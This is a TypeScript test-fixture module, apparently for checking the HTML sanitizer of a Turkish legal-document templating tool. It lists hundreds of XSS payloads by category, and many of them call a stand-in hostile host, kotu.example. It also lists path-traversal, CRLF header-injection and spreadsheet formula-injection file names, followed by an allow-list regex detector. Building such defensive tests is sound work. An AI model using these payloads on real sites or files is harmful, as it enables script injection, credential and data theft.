/**
 * Known attacks on pages, by kind: each would call alert(), load something from KOTU or change the page around
 * it if it were not treated as text. One a line; `␤` stands for a line break.
 */
export const HOSTILE_HOST = 'kotu.example';

const lines = (text: TemplateStringsArray, ...values: readonly string[]): readonly string[] =>
  String.raw(text, ...values)
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => line.replaceAll('␤', '\n'));

const TAGS = lines`
<script>alert(1)</script>
<script src=//kotu.example/x.js></script>
<script src="https://kotu.example/x.js" async defer></script>
<script type=module>alert(1)</script>
<script type="text/ecmascript">alert(1)</script>
<script language=vbscript>MsgBox 1</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt/x>alert(1)</sCrIpT >
<script␤>alert(1)</script␤>
<script/src=data:,alert(1)></script>
<script>/*</script><script>*/alert(1)//</script>
<script>alert(1)<!-- </script>
<script><!--␤alert(1)␤--></script>
<noscript><script>alert(1)</script></noscript>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src=//kotu.example></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="//kotu.example/x.swf" type="application/x-shockwave-flash"></object>
<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src=//kotu.example/x type=text/html>
<applet code=X codebase=//kotu.example></applet>
<base href="//kotu.example/">
<base target=_blank href="javascript:/a/+alert(1)//">
<link rel=stylesheet href=//kotu.example/x.css>
<link rel=import href=//kotu.example/x.html>
<link rel=preload as=script href=//kotu.example/x.js>
<link rel=prefetch href=//kotu.example/>
<link rel=dns-prefetch href=//kotu.example>
<link rel=manifest href=//kotu.example/m.json>
<meta http-equiv=refresh content="0;url=//kotu.example">
<meta http-equiv=refresh content="0;javascript:alert(1)">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset=utf-7>
<form action=//kotu.example><input name=parola><button>Giriş</button></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<isindex action="javascript:alert(1)" type=image>
<keygen autofocus onfocus=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<portal src=//kotu.example></portal>
<fencedframe src=//kotu.example></fencedframe>
<xml src=//kotu.example/x.xml></xml>
<bgsound src="javascript:alert(1)">
<layer src=//kotu.example></layer>
<marquee onstart=alert(1)>x</marquee>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot onslotchange=alert(1)></slot>
<x-widget onclick=alert(1)>x</x-widget>
<comment><img src="</comment><img src=x onerror=alert(1)>"></comment>
`;

const URLS = lines`
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="java␤script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript:%61lert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://kotu.example/1">x</a>
<a href="//kotu.example" ping="//kotu.example/p">x</a>
<a href="\\kotu.example\a">x</a>
<a href="https:kotu.example" target=_blank>x</a>
<a href="file:///etc/passwd">x</a>
<a href="ms-word:ofe|u|https://kotu.example/x.docx">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert&lpar;1&rpar;>x</a>
<area href="javascript:alert(1)" shape=default>
<map name=m><area href="javascript:alert(1)"></map><img usemap=#m>
<img src="javascript:alert(1)">
<img src=//kotu.example/a.png>
<img src="https://kotu.example/a.png">
<img srcset="//kotu.example/a.png 1x, //kotu.example/b.png 2x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<img src="data:text/html,<script>alert(1)</script>">
<img src="data:image/png;base64,PHNjcmlwdD4=">
<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">
<img src=x longdesc="javascript:alert(1)">
<picture><source srcset=//kotu.example/a.png><img></picture>
<video src=//kotu.example/a.mp4 poster=//kotu.example/a.png autoplay></video>
<audio src=//kotu.example/a.mp3 autoplay></audio>
<video><track src=//kotu.example/a.vtt default></video>
<input type=image src=//kotu.example/a.png>
<body background=//kotu.example/a.png>x</body>
<table background=//kotu.example/a.png><tr><td background="javascript:alert(1)">x</td></tr></table>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite=//kotu.example>x</q>
<del cite="javascript:alert(1)">x</del>
<button formaction=//kotu.example>x</button>
<html manifest=//kotu.example/m>x</html>
<div profile="javascript:alert(1)">x</div>
`;

const CSS = lines`
<p style="background:url(//kotu.example/a.png)">x</p>
<p style="background:url('javascript:alert(1)')">x</p>
<p style="background-image:image-set('//kotu.example/a.png' 1x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="width:exp/**/ression(alert(1))">x</p>
<p style="behavior:url(//kotu.example/x.htc)">x</p>
<p style="-moz-binding:url(//kotu.example/x.xml#a)">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<p style="text-align:center;position:absolute;top:0">x</p>
<p style="text-align:center&quot;onmouseover=&quot;alert(1)">x</p>
<p style="text-align:center\" onclick=alert(1) x=\"">x</p>
<p style="font-family:'</style><script>alert(1)</script>'">x</p>
<p style="content:url(//kotu.example/a)">x</p>
<p style="cursor:url(//kotu.example/a),auto">x</p>
<p style="list-style:url(//kotu.example/a)">x</p>
<p style="color:\75\72\6c\28//kotu.example\29">x</p>
<p style="font-size:14pt;font-size:expression(alert(1))">x</p>
<p style="--a:url(//kotu.example);background:var(--a)">x</p>
<style>@import '//kotu.example/x.css';</style>
<style>@font-face{font-family:a;src:url(//kotu.example/a)}p{font-family:a}</style>
<style>input[value^=a]{background:url(//kotu.example/a)}</style>
<style>*{animation:a 1s}@keyframes a{}</style><p onanimationstart=alert(1)>x</p>
<style><!--</style><script>alert(1)</script>--></style>
<style>p{x:'</style><img src=x onerror=alert(1)>'}</style>
<style media=x onload=alert(1)></style>
<style>body{-webkit-binding:url(//kotu.example)}</style>
<p><style>p{color:red}</style><style/onload=alert(1)></p>
<div style="font-size:999999999999pt">x</div>
<div style="margin-left:-99999px">x</div>
<div style=";;;:;x:;:y;/*">x</div>
`;

const ENCODINGS = lines`
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&LT;script&GT;alert(1)&LT;/script&GT;
&#0000060img src=x onerror=alert(1)>
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
+/v8 +ADw-img src=x onerror=alert(1)+AD4-
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
<ſcript>alert(1)</ſcript>
<ſCRİPT>alert(1)</ſCRİPT>
<scrıpt>alert(1)</scrıpt>
<SCRİPT>alert(1)</SCRİPT>
<ımg src=x onerror=alert(1)>
<İMG SRC=x ONERROR=alert(1)>
<ıframe src=javascript:alert(1)></ıframe>
<img src=x onload=alert(1) ONERROR=alert(1)>
<p onclıck=alert(1) onclick=alert(1)>x</p>
<a href="javaſcript:alert(1)">x</a>
<a href="javascrİpt:alert(1)">x</a>
<K>alert(1)</K><ﬆyle>@import'//kotu.example'</ﬆyle>
<s​cript>alert(1)</s​cript>
‮<script>alert(1)</script>‬
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x onerror=\u0061lert(1)>
<img src=x onerror="&#x61;lert&#40;1&#41;">
<img src=x onerror=alert&lpar;1&rpar;>
<img src=x onerror=alert${'`'}1${'`'}>
&lt;img src=x onerror=alert(1)&gt
&NotARealEntity;<script>alert(1)</script>
&#x110000;&#xD800;&#0;<img src=x onerror=alert(1)>
`;

const SVG = lines`
<svg onload=alert(1)></svg>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=//kotu.example/x.js /></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animateTransform onbegin=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#a"/></svg>
<svg><use xlink:href=//kotu.example/x.svg#a></svg>
<svg><image href=//kotu.example/a.png onerror=alert(1)></svg>
<svg><feImage href=//kotu.example/a.png></svg>
<svg><foreignObject><script>alert(1)</script></foreignObject></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style>@import '//kotu.example/x.css'</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><handler type=text/javascript>alert(1)</handler></svg>
<svg><discard onbegin=alert(1)>
<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math><script>alert(1)</script></math>
<math href="javascript:alert(1)"><mi>x</mi></math>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>
<math><semantics><annotation-xml><svg onload=alert(1)></annotation-xml></semantics></math>
<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>
`;

const MUTATIONS = lines`
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><g title="</style><img src=x onerror=alert(1)>">
<table><td><svg><desc><td></desc><style><img src=x onerror=alert(1)>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><script>alert(1)</script>">
<noembed><p title="</noembed><script>alert(1)</script>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<!--><script>alert(1)</script>-->
<!---><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![if !mso]><script>alert(1)</script><![endif]>
<?xml version="1.0"?><script>alert(1)</script>
<?php <script>alert(1)</script> ?>
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% <script>alert(1)</script> %>
<![CDATA[<script>alert(1)</script>]]>
<p title='"><script>alert(1)</script>'>x</p>
<p title="${'`'}<img src=x onerror=alert(1)>">x</p>
<p title="-->&lt;/p&gt;<script>alert(1)</script>">x</p>
<img alt="${'`'}${'`'}onerror=alert(1)" src=x>
<img alt='"><script>alert(1)</script>' src=x>
<b><p><b><p><table><b><tr><td><script>alert(1)</script>
<a><table><a><img src=x onerror=alert(1)>
<table><script>alert(1)</script><tr><td>x
<table><caption><img src=x onerror=alert(1)>
<ul><li><script>alert(1)</ul><p>x
<p><plaintext><script>alert(1)</script>
<body><body onload=alert(1)>
<html><html onclick=alert(1)>x
<head></head><head onload=alert(1)>x
<frameset onload=alert(1)>
<option><style></option></select><img src=x onerror=alert(1)></style>
`;

const BROKEN = lines`
<<script>alert(1)//<</script>
<<script>script>alert(1)<</script>/script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script<script>>alert(1)</script>
<img """><script>alert(1)</script>">
<img src=x:x onerror=alert(1)//
<img src=x onerror=alert(1)
<img/src/onerror=alert(1)>
<img src='x'onerror=alert(1)>
<img src=x	onerror=alert(1)>
<img src=xonerror=alert(1)>
<img src=x onerror␤=␤alert(1)>
<img src=x/**/onerror=alert(1)>
<p"onclick="alert(1)">x
<p/onclick=alert(1)>x
<p onclick=alert(1) onclick=1>x
<p ""onclick=alert(1)>x
<p =onclick=alert(1)>x
< script>alert(1)</ script>
<\script>alert(1)</script>
<script>alert(1)
<script
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' autofocus onfocus='alert(1)
--><script>alert(1)</script>
]]><script>alert(1)</script>
</textarea></title></style><script>alert(1)</script>
*/alert(1)/*
';alert(1);//
\';alert(1);//
${'$'}{alert(1)}
</p></div></body></html><script>alert(1)</script>
<p>x</p><p
<a href="
&
<
<>
</>
<p></p
`;

const TEMPLATES = lines`
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{{_c.constructor('alert(1)')()}}
{{[].pop.constructor&#40;'alert(1)'&#41;&#40;&#41;}}
{{toString.constructor.prototype}}
{{__proto__}}
{{constructor}}
{{hasOwnProperty}}
{{borcluAdSoyad}}<script>alert(1)</script>{{/borcluAdSoyad}}
{{borclu"><script>alert(1)</script>AdSoyad}}
{{bor<img src=x onerror=alert(1)>cluAdSoyad}}
{{{borcluAdSoyad}}}
{{{{borcluAdSoyad}}}}
{{#each this}}{{/each}}
{{{{raw}}}}<script>alert(1)</script>{{{{/raw}}}}
<%= alert(1) %>
<#assign x="freemarker.template.utility.Execute"?new()>
#{7*7}[[7*7]]{%7*7%}
<div v-html="'<img src=x onerror=alert(1)>'">x</div>
<div ng-app ng-csp ng-click=$event.view.alert(1)>x</div>
<div x-data x-init=alert(1)>x</div>
<div data-bind="html: alert(1)">x</div>
<div data-toggle=tooltip data-html=true title="<script>alert(1)</script>">x</div>
<div hx-get=//kotu.example hx-trigger=load>x</div>
`;

const CLOBBERING = lines`
<img name=getElementById>
<img name=cookie>
<form name=body><input name=children></form>
<form id=document><input name=defaultView></form>
<a id=kok></a><a id=kok name=url href=//kotu.example></a>
<div id=kok>x</div>
<div id=__proto__>x</div>
<input name=attributes>
<form id=x tabindex=0 onfocus=alert(1)><input id=attributes>
<iframe name=top></iframe>
<iframe name=alert src=//kotu.example></iframe>
<img id=self name=self>
<object name=ownerDocument></object>
<p id=onload>x</p>
<p class="ProseMirror" contenteditable=true>x</p>
<p role=dialog aria-modal=true>x</p>
<p tabindex=1 accesskey=s>x</p>
<p contenteditable onfocus=alert(1) autofocus>x</p>
<p is=x-widget>x</p>
<p slot=a part=b exportparts=c>x</p>
<p popover id=p>x</p><button popovertarget=p onbeforetoggle=alert(1)>x</button>
<p lang="&quot;><script>alert(1)</script>" dir=rtl>x</p>
`;

const EVENTS =
  'abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch ' +
  'beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay change click close contextmenu copy ' +
  'cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange end ended error ' +
  'focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress ' +
  'keyup load loadeddata loadstart message mousedown mouseenter mouseover mousewheel pagehide pageshow paste play ' +
  'pointerdown pointerover pointerrawupdate popstate progress repeat reset resize scroll scrollend search select ' +
  'selectionchange slotchange submit toggle touchstart transitionend unhandledrejection unload webkitanimationend wheel';
const CARRIERS = ['p', 'span', 'strong', 'td', 'li', 'img src=x', 'body', 'div'];

/** Every handler that a page may have, each on another element. */
const HANDLERS = EVENTS.split(' ').map(
  (event, i) => `<${CARRIERS[i % CARRIERS.length]} on${event}=alert(1) tabindex=0 autofocus>x`,
);

/** Signs that are not seen: a byte order mark, NUL, controls, directions. */
const INVISIBLE = [
  '\ufeff<script>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<img src=x onerror\0=alert(1)>',
  '<img\x0bsrc=x\x0conerror=alert(1)>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<p \xa0onclick=alert(1)>x',
  '\x1b[31m<b>x</b>\x07\x08',
  'a\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  '\u202egpj.exe\u202c<img src=x onerror=alert(1)>',
  '\u2028alert(1)\u2029<script>alert(1)</script>',
];

/** Pages, tabs and lists as documents say them, with more in them than that. */
const LAYOUT = lines`
<p>a	b</p>
<span style="white-space:pre">	<script>alert(1)</script></span>
<span style="white-space:pre;background:url(//kotu.example)">	x</span>
<p style="tab-stops:left dotted 36pt url(//kotu.example);text-indent:-1e999pt">a	b</p>
<p style="tab-stops:&quot;><script>alert(1)</script> 36pt">a	b</p>
<ol type="a" data-marker="latin)"><li>x</ol>
<ol type="1&quot;><script>alert(1)</script>" data-marker="decimal.&quot; onclick=alert(1)"><li>x</ol>
<ul data-marker="<script>alert(1)</script>"><li>x</ul>
<ul data-marker="constructor"><li>x</ul><ol data-marker="__proto__"><li>x</ol>
<div data-page="595 842;72 72 72 72;36 36;1 0;1"><header><p>x</p></header></div><p>y</p>
<div data-page="595 842;72 72 72 72;36 36;1 0;1&quot; onclick=alert(1)"><header onclick=alert(1)>x</header></div><p>y</p>
<div data-page="595 842;72 72 72 72;36 36;1 0;1"><footer data-first=""><script>alert(1)</script></footer></div><p>y</p>
<div data-page="1e999 NaN;Infinity 0 0 0;0 0;0 0;0"></div><p>y</p>
<div data-page="595 842;72 72 72 72;36 36;1 0;1"><footer><p><span data-page-number="page" onclick=alert(1)>7</span></p></footer></div><p>y</p>
<span data-page-number="total&quot;><script>alert(1)</script>">x</span>
`;

export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  layout: LAYOUT,
  tags: TAGS,
  handlers: HANDLERS,
  urls: URLS,
  css: CSS,
  encodings: ENCODINGS,
  svg: SVG,
  mutations: MUTATIONS,
  broken: BROKEN,
  templates: TEMPLATES,
  clobbering: CLOBBERING,
  invisible: INVISIBLE,
};

export const ALL_HOSTILE: readonly string[] = Object.values(HOSTILE).flat();

/** Templates whose text depends on the case; no file is made of them. */
export const HOSTILE_RULES: readonly string[] = lines`
<p data-kosul="takipTuru=ilamli" onclick=alert(1)>x</p>
<p>{{sec:takipTuru|ilamli=<script>alert(1)</script>|ilamsiz=<img src=x onerror=alert(1)>}}</p>
<p>{{her:borclular|{{borcluAdSoyad}}<b onclick=alert(1)>|, | ve </b>}}</p>
`;

/** Further attacks by the name of a file. */
export const HOSTILE_NAMES: readonly string[] = [
  ...lines`
../../../etc/passwd
..\..\windows\system32\drivers\etc\hosts
/etc/passwd
C:\Windows\win.ini
\\kotu.example\paylas\a
....//....//a
%2e%2e%2fa
..%c0%af..%c0%afa
a/../../b
.
..
~/.ssh/id_rsa
CON
nul.txt
a:b
a.pdf::$DATA
a"; filename="b.exe
a%0d%0aSet-Cookie:x=y
=cmd|'/c calc'!A1
+1+1
-2+3
@SUM(A1)
`,
  'a\r\nSet-Cookie: a=b\r\n\r\n<b>',
  'a\0.pdf',
  'a\nb\tc',
  '\u202egpj.exe',
  'a'.repeat(290),
];

const MEASURE = String.raw`-?[\d.]+|null`;

const RULE = '(?: data-(?:kosul|tekrar)="[A-Za-z0-9_:;=!?| ]+")*';

/** All that the HTML of a document may hold between < and >. */
const OURS = new RegExp(
  `^<(?:${[
    '/(?:p|h[1-3]|ol|ul|li|table|colgroup|thead|tbody|tr|th|td|div|span|strong|em|u|s|sup|sub|header|footer)',
    String.raw`(?:p|h[1-3]|li|th|td|tr)(?: colspan="\d+")?(?: style="[a-z0-9:;.% -]*")?${RULE}`,
    String.raw`ol(?: type="[1aAiI]" data-marker="\(?(?:decimal|roman|ROMAN|latin|LATIN|turkish|TURKISH)[.)-]")?(?: start="\d+")?`,
    'ul(?: data-marker="[•○▪□➢◆❖▶✓–→⇒]")?',
    String.raw`table(?: border="0"(?: style="border:0\.5pt solid")?)?|colgroup|thead|tbody`,
    String.raw`col style="width:[\d.]+%"`,
    'div style="page-break-after:always"',
    `div data-page="(?:${MEASURE})(?:[ ;](?:${MEASURE}))*"`,
    '(?:header|footer)(?: data-first="")?',
    String.raw`span style="(?:font-size:\d+pt|white-space:pre)"`,
    'span data-page-number="(?:page|total)"',
    'strong|em|u|s|sup|sub|br',
    String.raw`img src="data:image\/(?:png|jpeg);base64,[A-Za-z0-9+/=]+" width="\d+" height="\d+" alt="[^"<>]*"`,
  ].join('|')})>$`,
);

/** Tags that no document of ours holds. */
export const foreignTags = (html: string): readonly string[] =>
  (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !OURS.test(tag));
